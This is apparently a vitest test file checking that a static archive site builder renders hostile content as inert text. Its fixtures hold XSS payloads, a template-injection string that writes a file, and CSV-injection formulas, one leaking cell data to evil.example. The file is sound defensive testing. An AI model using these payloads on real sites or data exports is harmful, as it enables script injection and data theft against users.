/**
 * Inert content: HTML, script and template code in an article (text or Markdown), its front
 * matter or the curation file is shown as text, never executed, on every page and in every
 * data file; every page carries the Content-Security-Policy.
 */
import { existsSync } from 'node:fs';
import { readFile, readdir } from 'node:fs/promises';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { parse } from 'node-html-parser';
import { register } from 'tsx/esm/api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildArchive, type BuildResult } from '../../src/build.ts';
import { writeSite } from '../../src/site/write.ts';
import { blockTexts, bodyLines, contentSecurityPolicy, executableMarkup, removeDir, tempDir, writeFiles } from './helpers.ts';

let root: string;
let site: string;
let content: string;
let marker: string;
let result: BuildResult;
/** Site-relative path → text, for every HTML, XML, JSON and CSV file. */
const files = new Map<string, string>();

/** Template code that, if a template engine ever evaluated it, would write `marker`. */
const ssti = (file: string): string => `{{ range.constructor("return globalThis.process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(file).replace(/"/g, "'")}, 'ran')")() }}`;

beforeAll(async () => {
  root = await tempDir('inert');
  content = path.join(root, 'content');
  site = path.join(root, 'site');
  marker = path.join(root, 'template-ran');
  await writeFiles(content, {
    'entities.yaml': [
      'entities:',
      '  - name: Jean Dupont',
      '    kind: person',
      '    description: "<script>alert(\'description\')</script> a union leader <img src=x onerror=alert(1)>"',
      '  - name: Alliance',
      '    kind: organization',
      '    aliases: ["<b onmouseover=alert(2)>Alliance</b>"]',
      '    description: "[click](javascript:alert(3)) <a href=\\"javascript:alert(4)\\">here</a>"',
      '',
    ].join('\n'),
    'articles/evil.txt': [
      '---',
      'headline: "Evil <script>alert(\'headline\')</script> & <b>bold</b> {{ 7*7 }}"',
      'date: 2021-05-01',
      'source: "<img src=x onerror=alert(\'source\')>"',
      "sourceUrl: \"https://example.org/a?b=1&c='x'\"",
      'summary: "<iframe src=javascript:alert(\'summary\')></iframe>"',
      'people: ["Jean Dupont", "Evil\\" onmouseover=\\"alert(5)"]',
      'organizations: [Alliance]',
      '---',
      'Jean Dupont of Alliance said “<script>alert(6)</script> we want <img src=x onerror=alert(7)>” on Monday in Paris.',
      'Click [here](javascript:alert(8)) or <a href="javascript:alert(9)">there</a> and <iframe src="https://evil.example"></iframe>.',
      'Jean Dupont, general secretary of Alliance, demanded <svg onload=alert(10)> and "><script>alert(11)</script>.',
      `A template: ${ssti(marker)} and {% raw %}{{ 8*8 }}{% endraw %} and \${process.exit(1)}.`,
      '<style>body{display:none}</style><meta http-equiv="refresh" content="0;url=javascript:alert(12)">',
      '“<script>alert(13)</script>,” said Evil" onmouseover="alert(5).',
      '',
    ].join('\n'),
    // Text that a spreadsheet opening data/*.csv would take for formulas (OWASP "CSV injection").
    'articles/formula.txt': [
      '---',
      `headline: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'`,
      'date: 2021-05-03',
      `summary: "@SUM(1+1)*cmd|' /C calc'!A0"`,
      '---',
      'Jean Dupont of Alliance said the figures were wrong on Tuesday.',
      '',
    ].join('\n'),
    'articles/evil-markdown.md': [
      '---',
      'date: 2021-05-02',
      '---',
      '# Markdown <script>alert(20)</script> evil',
      '',
      'Jean Dupont said [a link](javascript:alert(21)) and **bold** and <img src=x onerror=alert(22)>.',
      '',
      '<script>alert(23)</script>',
      '',
      '<div onclick="alert(24)">raw html block</div>',
      '',
      '![image](javascript:alert(25)) and <javascript:alert(26)> and [ref][r] and <!-- a comment -->',
      '',
      '[r]: javascript:alert(27)',
      '',
      '- item <iframe src=x></iframe>',
      '- [x](javascript:alert(28))',
      '',
      '```html',
      '<script>alert(29)</script>',
      '```',
      '',
    ].join('\n'),
  });
  result = await buildArchive(content);
  expect(result.problems.filter((p) => p.severity === 'error')).toEqual([]);
  // writeSite has Eleventy import `.eleventy.ts` with Node's own loader, outside vitest's transform.
  const unregister = register();
  try {
    await writeSite(result.archive, site);
  } finally {
    await unregister();
  }
  for (const e of await readdir(site, { recursive: true, withFileTypes: true })) {
    if (!e.isFile() || !/\.(html|xml|json|csv|txt)$/.test(e.name)) continue;
    const rel = path.relative(site, path.join(e.parentPath, e.name)).split(path.sep).join('/');
    files.set(rel, await readFile(path.join(site, rel), 'utf8'));
  }
});

afterAll(() => removeDir(root));

const pages = (): [string, string][] => [...files].filter(([f]) => f.endsWith('.html'));

describe('a site built from hostile content', () => {
  it('should have built the article and entity pages', () => {
    for (const f of ['articles/evil/index.html', 'articles/evil-markdown/index.html', 'people/jean-dupont/index.html', 'organizations/alliance/index.html']) expect(files.has(f), f).toBe(true);
  });

  it('should have no executable markup on any page', () => {
    expect(pages().length).toBeGreaterThan(10);
    expect(pages().flatMap(([f, html]) => executableMarkup(html, f))).toEqual([]);
  });

  it('should declare a Content-Security-Policy without inline script on every page', () => {
    for (const [f, html] of pages()) {
      const csp = contentSecurityPolicy(html);
      expect(csp, f).toMatch(/default-src 'self'/);
      // Pagefind's search runs WebAssembly: only its page may compile it, and no page may eval.
      expect(csp, f).toMatch(f === 'search/index.html' ? /script-src 'self'(?: 'wasm-unsafe-eval')?(?:;|$)/ : /script-src 'self'(?:;|$)/);
      expect(csp, f).toMatch(/object-src 'none'/);
      expect(csp, f).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
    }
  });

  it('should show the hostile text as text on the article page', () => {
    const html = files.get('articles/evil/index.html')!;
    const text = blockTexts(html).join('\n');
    expect(text).toContain('“<script>alert(6)</script> we want <img src=x onerror=alert(7)>”');
    expect(text).toContain('<a href="javascript:alert(9)">there</a>');
    expect(text).toContain('"><script>alert(11)</script>');
    expect(parse(html).querySelector('h1')?.text).toBe("Evil <script>alert('headline')</script> & <b>bold</b> {{ 7*7 }}");
  });

  // Regression: `eleventyComputed: title: "{{ article.headline }}"` escaped the headline and base.njk
  // escaped it again, so a tab read `&lt;b&gt;`. Computed titles are now marked safe and escaped once.
  it('should show the headline in <title> and the summary in the description once escaped, as text', () => {
    const doc = parse(files.get('articles/evil/index.html')!);
    expect(doc.querySelector('title')?.text.startsWith("Evil <script>alert('headline')</script> & <b>bold</b> {{ 7*7 }}")).toBe(true);
    expect(doc.querySelector('meta[name="description"]')?.getAttribute('content')).toBe("<iframe src=javascript:alert('summary')></iframe>");
  });

  it('should keep data/*.csv cells from starting a spreadsheet formula, and archive.json as written', () => {
    const csvs = [...files].filter(([f]) => f.startsWith('data/') && f.endsWith('.csv'));
    expect(csvs.length).toBeGreaterThan(0);
    for (const [f, text] of csvs) {
      for (const row of parseCsv(text, { relax_quotes: true }) as string[][]) for (const cell of row) expect(cell, f).not.toMatch(/^[=+\-@\t\r]/);
    }
    const article = (parseCsv(files.get('data/articles.csv')!, { columns: true }) as Record<string, string>[]).find((r) => r['id'] === 'formula');
    expect(article?.['headline']).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
    expect(article?.['summary']).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    const json = JSON.parse(files.get('data/archive.json')!) as { articles: { id: string; headline: string }[] };
    expect(json.articles.find((a) => a.id === 'formula')?.headline).toBe(`=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
  });

  it('should never evaluate template code found in the content', () => {
    expect(existsSync(marker)).toBe(false);
    const text = blockTexts(files.get('articles/evil/index.html')!).join('\n');
    expect(text).toContain(ssti(marker));
    expect(text).toContain('{% raw %}{{ 8*8 }}{% endraw %}');
    expect(text).not.toContain('64');
    expect(files.get('articles/evil/index.html')).not.toContain('49');
  });

  it('should show every line of the hostile articles on their pages', async () => {
    const evil = blockTexts(files.get('articles/evil/index.html')!).map((t) => t.trim());
    const dropped = result.records.flatMap((r) => r.dropped.map((d) => `${r.file}:${d.line}`));
    for (const { line, text } of bodyLines(await readFile(path.join(content, 'articles/evil.txt'), 'utf8'))) {
      if (text.trim() === '' || dropped.includes(`articles/evil.txt:${line}`)) continue;
      expect(evil, `articles/evil.txt:${line}`).toContain(text.trim());
    }
    // Markdown is resolved to its text; raw HTML and code stay, as text.
    const md = blockTexts(files.get('articles/evil-markdown/index.html')!).join('\n');
    for (const shown of ['<script>alert(23)</script>', '<div onclick="alert(24)">raw html block</div>', '<script>alert(29)</script>', 'item <iframe src=x></iframe>']) expect(md).toContain(shown);
  });

  it('should show the hostile names and descriptions as text on the entity pages', () => {
    const person = parse(files.get('people/jean-dupont/index.html')!);
    expect(person.querySelector('.description')?.text).toBe("<script>alert('description')</script> a union leader <img src=x onerror=alert(1)>");
    const quotes = parse(files.get('people/jean-dupont/index.html')!).querySelectorAll('q').map((q) => q.text);
    const mentions = person.querySelectorAll('.mentions blockquote').map((b) => b.text);
    expect([...quotes, ...mentions].join('\n')).toContain('<script>alert(6)</script>');
    const org = parse(files.get('organizations/alliance/index.html')!);
    expect(org.text).toContain('<b onmouseover=alert(2)>Alliance</b>');
  });

  it('should keep data/archive.json valid JSON holding the text as data', () => {
    const json = JSON.parse(files.get('data/archive.json')!) as { articles: { headline: string }[] };
    expect(json.articles.map((a) => a.headline)).toContain("Evil <script>alert('headline')</script> & <b>bold</b> {{ 7*7 }}");
  });

  it('should keep every XML file well-formed, with inert HTML in feed entries', () => {
    const xml = [...files].filter(([f]) => f.endsWith('.xml'));
    expect(xml.length).toBeGreaterThan(0);
    for (const [f, text] of xml) expect(XMLValidator.validate(text), f).toBe(true);
    const atom = xml.find(([f]) => /feed/.test(f));
    if (!atom) return;
    const doc = new XMLParser({ ignoreAttributes: false, processEntities: true, htmlEntities: true }).parse(atom[1]) as { feed?: { entry?: unknown } };
    const entries = ([] as unknown[]).concat(doc.feed?.entry ?? []) as Record<string, unknown>[];
    const htmlOf = (v: unknown): string => (typeof v === 'string' ? v : v && typeof v === 'object' ? String((v as Record<string, unknown>)['#text'] ?? '') : '');
    expect(entries.flatMap((e) => executableMarkup(htmlOf(e['content']), `${atom[0]} entry content`))).toEqual([]);
  });

  it('should keep HTML in the JSON feed inert', () => {
    const feed = [...files].find(([f]) => f.endsWith('feed.json'));
    if (!feed) return;
    const items = (JSON.parse(feed[1]) as { items: { content_html?: string }[] }).items;
    expect(items.length).toBeGreaterThan(0);
    expect(items.flatMap((i) => executableMarkup(i.content_html ?? '', `${feed[0]} content_html`))).toEqual([]);
  });
});

describe('the check for executable markup', () => {
  const caught = [
    '<script>alert(1)</script>',
    '<p><img src=x onerror=alert(1)></p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://example.org"></iframe>',
    '<svg onload=alert(1)></svg>',
    '<script type="application/ld+json">{"a":"</script><script>alert(1)</script>"}</script>',
    '<script src="https://cdn.example/x.js"></script>',
  ];
  for (const html of caught) it(`should catch ${JSON.stringify(html)}`, () => expect(executableMarkup(html, 'x')).not.toEqual([]));

  const inert = [
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)></p>',
    '<script type="application/ld+json">{"a":"\\u003cscript\\u003e"}</script>',
    '<script src="../pagefind/pagefind-ui.js" defer></script>',
    '<link rel="icon" href="data:,"><img src="data:image/png;base64,AAAA" alt="">',
    '<a href="../people/x/index.html" title="javascript: the language">javascript:</a>',
  ];
  for (const html of inert) it(`should pass ${JSON.stringify(html)}`, () => expect(executableMarkup(html, 'x')).toEqual([]));
});
